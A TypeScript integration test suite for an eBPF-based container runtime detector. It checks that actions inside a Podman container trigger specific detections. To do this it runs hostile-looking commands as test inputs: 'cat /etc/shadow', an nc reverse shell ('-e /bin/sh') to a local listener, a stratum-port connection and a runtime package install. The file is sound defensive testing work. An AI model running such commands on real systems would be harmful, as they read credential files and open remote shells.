/**
 * Real eBPF (bpftrace) and real Podman: each attack done inside a container yields exactly the
 * expected detection, attributed to that container and to nothing else; host processes doing the
 * same things yield none. Needs root, bpftrace and podman: fails under CI=true without them,
 * skips loudly otherwise (hooks too).
 */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { after, before, describe, test } from 'node:test';
import type { TestContext } from 'node:test';
import { requireOrSkip } from '../testing/shared-data.js';
import type { RuntimeDetection } from './contracts.js';
import { RuntimeDetector } from './detector.js';
import { Collector, RuntimeFixture, describeWithPodman, ebpfMissing } from './runtime-fixture.test-helper.js';
import type { Ctr } from './runtime-fixture.test-helper.js';

const missing = ebpfMissing();

describe('runtime detection: real eBPF and Podman', { concurrency: false }, () => {
  let fixture: RuntimeFixture | undefined;
  let detector: RuntimeDetector | undefined;
  let a: Ctr;
  let b: Ctr;
  const seen = new Collector();

  const need = (t: TestContext): boolean =>
    requireOrSkip(t, missing === undefined && detector !== undefined, missing ?? 'the runtime detector');

  before(async () => {
    if (missing !== undefined) {
      requireOrSkip({ skip() {} } as unknown as TestContext, false, missing);
      return;
    }
    fixture = RuntimeFixture.create();
    a = fixture.run();
    b = fixture.run();
    detector = new RuntimeDetector({
      mode: 'ebpf',
      describe: describeWithPodman,
      ruleOptions: { listenerGraceMs: 500 },
      aggregateWindowMs: 600_000,
    });
    detector.onDetection((d) => seen.push(d));
    await detector.start();
    assert.equal(detector.status().mode, 'ebpf');
    await new Promise((r) => setTimeout(r, 600)); // past the listener grace of both containers
  });

  after(async () => {
    await detector?.stop();
    fixture?.cleanup();
  });

  const ofA = (d: RuntimeDetection): boolean => d.workload.containerId === a.id;

  /** Runs `act`, waits for `ruleId` in container A, then checks A got exactly that and B nothing. */
  async function expectExactly(
    ruleId: string,
    act: () => unknown,
    check?: (d: RuntimeDetection) => void,
  ): Promise<void> {
    seen.since();
    await act();
    const hit = await seen.waitFor((d) => ofA(d) && d.ruleId === ruleId);
    assert.ok(
      hit,
      `no ${ruleId} detection for container A; saw ${JSON.stringify(seen.recent().map((d) => [d.ruleId, d.workload.pod]))}`,
    );
    await new Promise((r) => setTimeout(r, 1500)); // anything else this caused has arrived by now
    assert.deepEqual(
      seen.recent(ofA).map((d) => d.ruleId),
      [ruleId],
    );
    assert.deepEqual(
      seen.recent((d) => d.workload.containerId === b.id),
      [],
    );
    assert.equal(hit.workload.pod, a.name);
    assert.equal(hit.source, 'ebpf');
    check?.(hit);
  }

  test('podman exec of a shell: shell_in_container', async (t) => {
    if (!need(t)) return;
    await expectExactly(
      'shell_in_container',
      () => fixture!.exec(a, ['sh', '-c', 'echo hello']),
      (d) => {
        assert.equal(d.process.name, 'sh');
        assert.equal(d.evidence.entrypoint, 'sleep');
        assert.deepEqual(d.process.argv, ['sh', '-c', 'echo hello']);
      },
    );
  });

  test('a binary written into the writable layer and run: drift_executable', async (t) => {
    if (!need(t)) return;
    execFileSync('podman', ['cp', '/usr/bin/busybox', `${a.name}:/tmp/echo`]);
    await expectExactly(
      'drift_executable',
      () => fixture!.exec(a, ['/tmp/echo', 'dropped']),
      (d) => {
        assert.equal(d.process.exe, '/tmp/echo');
        assert.equal(d.evidence.where, 'writable-layer');
      },
    );
  });

  test('a program of the image is no drift', async (t) => {
    if (!need(t)) return;
    seen.since();
    fixture!.exec(a, ['/bin/echo', 'fine']);
    await new Promise((r) => setTimeout(r, 2000));
    assert.deepEqual(
      seen.recent(ofA).map((d) => d.ruleId),
      [],
    );
  });

  test('a new listener: new_listener', async (t) => {
    if (!need(t)) return;
    await expectExactly(
      'new_listener',
      () => fixture!.exec(a, ['nc', '-l', '-p', '7071'], { detach: true }),
      (d) => {
        assert.equal(d.evidence.port, 7071);
      },
    );
  });

  test('a connection to a stratum port (a listener the test owns): crypto_miner', async (t) => {
    if (!need(t)) return;
    await fixture!.listenInNetns(a, 3333);
    await expectExactly(
      'crypto_miner',
      () => fixture!.exec(a, ['nc', '-w', '1', '127.0.0.1', '3333']),
      (d) => {
        assert.equal(d.evidence.port, 3333);
        assert.equal(d.evidence.signal, 'stratum-port');
      },
    );
  });

  test('reading /etc/shadow: sensitive_file_read', async (t) => {
    if (!need(t)) return;
    await expectExactly(
      'sensitive_file_read',
      () => fixture!.exec(a, ['cat', '/etc/shadow']),
      (d) => {
        assert.equal(d.evidence.file, '/etc/shadow');
        assert.equal(d.evidence.access, 'read');
      },
    );
  });

  test('a package manager: package_manager_at_runtime', async (t) => {
    if (!need(t)) return;
    await expectExactly('package_manager_at_runtime', () =>
      spawnSync('podman', ['exec', a.name, 'apk', 'add', 'curl']),
    );
  });

  test('a reverse shell to a listener the test owns: reverse_shell (not also shell_in_container)', async (t) => {
    if (!need(t)) return;
    const listener = await fixture!.listenInNetns(a, 4455, 'echo pwned\n');
    let output = '';
    listener.stdout?.on('data', (c: Buffer) => (output += c.toString()));
    await expectExactly(
      'reverse_shell',
      () => fixture!.exec(a, ['nc', '127.0.0.1', '4455', '-e', '/bin/sh'], { detach: true }),
      (d) => {
        assert.equal(d.severity, 'CRITICAL');
        assert.equal(d.evidence.stdinSocket, true);
      },
    );
    assert.match(output, /pwned/, 'the shell really ran over the socket');
    listener.kill('SIGKILL');
  });

  test('repeats are aggregated, not re-emitted', async (t) => {
    if (!need(t)) return;
    seen.since();
    for (let i = 0; i < 3; i++) fixture!.exec(a, ['cat', '/etc/shadow']);
    await new Promise((r) => setTimeout(r, 2000));
    assert.deepEqual(seen.recent(ofA), [], 'the same detection within the window is only counted');
    assert.ok(detector!.status().aggregated >= 3);
  });

  test('host processes doing the same produce no detection', async (t) => {
    if (!need(t)) return;
    seen.since();
    const host = spawnSync('sh', ['-c', 'cat /etc/shadow >/dev/null; sh -c true; echo $$'], {
      encoding: 'utf8',
    });
    const pid = Number(host.stdout.trim());
    await new Promise((r) => setTimeout(r, 2000));
    assert.deepEqual(
      seen.recent((d) => d.process.pid === pid || d.workload.containerId === ''),
      [],
    );
    assert.ok(detector!.status().lostEvents === 0, 'no events lost at this rate');
  });
});
